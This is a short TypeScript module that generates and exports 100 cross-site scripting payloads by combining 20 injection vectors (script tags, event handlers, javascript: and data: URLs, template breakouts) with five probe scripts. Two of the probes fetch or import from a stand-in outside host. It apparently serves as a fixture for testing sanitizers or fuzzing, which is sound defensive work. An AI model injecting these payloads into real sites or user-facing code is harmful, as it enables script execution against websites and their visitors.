const vectors = [
  (script: string) => `<script>${script}</script>`,
  (script: string) => `<img src=x onerror=${script}>`,
  (script: string) => `<svg onload=${script}>`,
  (script: string) => `<body onload="${script}">`,
  (script: string) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script: string) => `<a href="javascript:${script}">x</a>`,
  (script: string) => `<math><mi xlink:href="data:x,<script>${script}</script>">`,
  (script: string) => `"><script>${script}</script>`,
  (script: string) => `'-${script}-'`,
  (script: string) => `\${${script}}`,
  (script: string) => `{{${script}}}`,
  (script: string) => `</script><script>${script}</script>`,
  (script: string) => `<style>@import 'javascript:${script}';</style>`,
  (script: string) => `<details open ontoggle=${script}>`,
  (script: string) => `<input autofocus onfocus=${script}>`,
  (script: string) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script: string) => `<!--><img src=x onerror=${script}>-->`,
  (script: string) => `<object data="data:text/html,<script>${script}</script>">`,
  (script: string) => `<form action="javascript:${script}"><button>`,
  (script: string) => `<ScRiPt >${script}</sCrIpT >`,
];

const scripts = ["alert(1)", "fetch('//x.example')", "top.x=1", "import('//x')", "eval('1')"];

/** A hundred ways to smuggle a script into a page. */
export const payloads = vectors.flatMap((vector) => scripts.map((script) => vector(script)));
